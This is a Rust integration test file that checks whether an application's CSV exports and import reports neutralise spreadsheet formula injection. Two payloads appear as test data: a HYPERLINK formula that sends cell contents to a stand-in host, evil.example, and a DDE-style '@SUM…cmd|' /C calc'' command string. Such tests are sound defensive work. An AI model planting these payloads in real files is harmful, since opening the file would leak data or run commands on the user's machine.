//! Every CSV chainpark writes neutralises cells that a spreadsheet program would evaluate (`=`, `+`, `-`, `@`, tab,
//! carriage return at the start get a leading `'`), on every engine: the API's exports, the pages' exports and the
//! import reports. The JSON answers keep the text as it was entered.

use crate::common;
use crate::common::{TestApp, apps, credit_code};
use crate::workflow_common;
use chainpark_core::access::Role;
use reqwest::{Method, StatusCode};
use serde_json::json;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";

/// The cells of a CSV download.
async fn csv_cells(app: &TestApp, path: &str) -> Vec<String> {
    let response = app
        .client
        .get(format!("{}{path}", app.base))
        .send()
        .await
        .expect("answered");
    assert_eq!(response.status(), StatusCode::OK, "[{}] {path}", app.engine);
    let text = response.text().await.expect("body");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|record| {
            record
                .expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

fn assert_no_formula(cells: &[String], engine: &str) {
    let formulas: Vec<&String> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '@', '\t', '\r']))
        .collect();
    assert!(formulas.is_empty(), "[{engine}] {formulas:?}");
}

#[tokio::test]
async fn an_appeal_titled_like_a_formula_reaches_the_leaders_export_as_text() {
    for app in apps().await {
        let z = workflow_common::zone(&app).await;
        let (status, appeal) = app
            .post(
                "/api/v1/appeals",
                json!({"enterprise_id": z.firm, "category": "utilities", "title": FORMULA,
                    "received_at": "2026-06-15T02:00:00Z"}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "[{}] {appeal}", app.engine);
        assert_eq!(
            appeal["title"], FORMULA,
            "[{}] stored as entered",
            app.engine
        );
        let leader = app.as_account("leader", Role::Leader, None).await;
        let cells = csv_cells(&leader, "/api/v1/appeals/export?format=csv").await;
        assert!(
            cells.contains(&format!("'{FORMULA}")),
            "[{}] {cells:?}",
            app.engine
        );
        assert_no_formula(&cells, app.engine);
    }
}

#[tokio::test]
async fn page_exports_write_names_that_begin_like_a_formula_as_text() {
    for app in apps().await {
        let f = common::fixture(&app).await;
        app.create(
            "/api/v1/chains",
            json!({"area_id": f.area, "code": "evil", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}),
        )
        .await;
        for path in [
            "/chains/export.csv",
            "/parks/export.csv",
            "/enterprises/export.csv",
        ] {
            let cells = csv_cells(&app, path).await;
            assert_no_formula(&cells, app.engine);
            if path == "/chains/export.csv" {
                assert!(
                    cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()),
                    "[{}] {cells:?}",
                    app.engine
                );
            }
        }
    }
}

#[tokio::test]
async fn an_import_report_writes_the_refused_cell_as_text() {
    for app in apps().await {
        let f = common::fixture(&app).await;
        let code = credit_code("91500000MA5U00001");
        app.create(
            "/api/v1/enterprises",
            json!({"credit_code": code, "name": "测试企业有限公司", "industry_code": "3612",
                   "district": "500112", "park_id": f.park, "segment_ids": [f.root_segment]}),
        )
        .await;
        let file = format!(
            "统一社会信用代码,期间,指标,数值\n{code},2021-01,增加值,=1+2\n{code},2021-02,增加值,-12.5\n"
        );
        let (status, body) = app
            .send_file(
                Method::POST,
                "/api/v1/imports?filename=formula.csv",
                "text/csv",
                file,
            )
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "[{}] {body}",
            app.engine
        );
        assert_eq!(
            body["import"]["report"]["errors"][0]["cell"], "=1+2",
            "[{}] the JSON report keeps the cell as it was",
            app.engine
        );
        let path = body["report_csv"]
            .as_str()
            .expect("a report link")
            .to_string();
        let cells = csv_cells(&app, &path).await;
        assert!(
            cells.contains(&"'=1+2".to_string()),
            "[{}] {cells:?}",
            app.engine
        );
        assert_no_formula(&cells, app.engine);
    }
}
